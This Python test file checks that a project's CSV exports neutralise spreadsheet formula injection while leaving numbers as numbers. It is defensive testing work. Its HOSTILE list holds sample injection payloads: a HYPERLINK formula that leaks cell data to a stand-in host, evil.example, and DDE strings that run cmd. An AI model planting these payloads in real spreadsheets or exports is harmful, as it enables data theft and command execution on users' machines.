"""CSV outputs a spreadsheet opens as data: formula-leading text is neutralised everywhere."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from credence import csvsafe
from credence.cli import app
from credence.web.views.analytics import Table, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_leading_text_gets_a_quote_and_numbers_stay_numbers() -> None:
    assert [csvsafe.cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert csvsafe.cell("\tcmd") == "'\tcmd"
    assert csvsafe.cell("\rcmd") == "'\rcmd"
    assert [csvsafe.cell(v) for v in ("-12.50", "+3", "-2e3", "-.5")] == [
        "-12.50",
        "+3",
        "-2e3",
        "-.5",
    ]
    assert [csvsafe.cell(v) for v in (-5, 1.5, None, "plain", "a=b")] == [
        -5,
        1.5,
        None,
        "plain",
        "a=b",
    ]


@given(
    st.sampled_from(["", *csvsafe.FORMULA_START, "'", "1"]).flatmap(
        lambda p: st.text().map(p.__add__)
    )
)
def test_no_text_cell_starts_a_formula_and_nothing_is_lost(value: str) -> None:
    out = csvsafe.cell(value)
    # Only a quote is ever added, and only before formula-leading text that is not a number.
    assert out in (value, "'" + value)
    starts = value.startswith(csvsafe.FORMULA_START) and not csvsafe.NUMBER.fullmatch(value)
    assert (out != value) == starts


def test_credence_score_csv_neutralises_hostile_subject_ids(tmp_path: Path) -> None:
    rows = "".join(
        f'city_hall,A-{i},"{v.replace(chr(34), chr(34) * 2)}",civic.award,2026-04-20\n'
        for i, v in enumerate(HOSTILE)
    )
    path = tmp_path / "records.csv"
    path.write_text("source,source_record_id,subject_id,kind,occurred_on\n" + rows)
    result = CliRunner().invoke(
        app,
        ["score", "-p", "city-merit", "-r", str(path), "--as-of", "2026-06-01", "--format", "csv"],
    )
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(result.stdout)))
    assert table[0][0] == "subject_id"
    assert sorted(r[0] for r in table[1:]) == sorted("'" + v for v in HOSTILE)
    assert {r[1] for r in table[1:]} == {"1030"}  # the scores are numbers, unquoted


def test_the_analytics_csv_neutralises_text_and_keeps_numbers() -> None:
    table = Table("t", "T", ("region", "delta", "label"), (("=1+1", -4, "-4"), ("@x", 2, "ok")))
    assert to_csv(table) == "region,delta,label\r\n'=1+1,-4,-4\r\n'@x,2,ok\r\n"
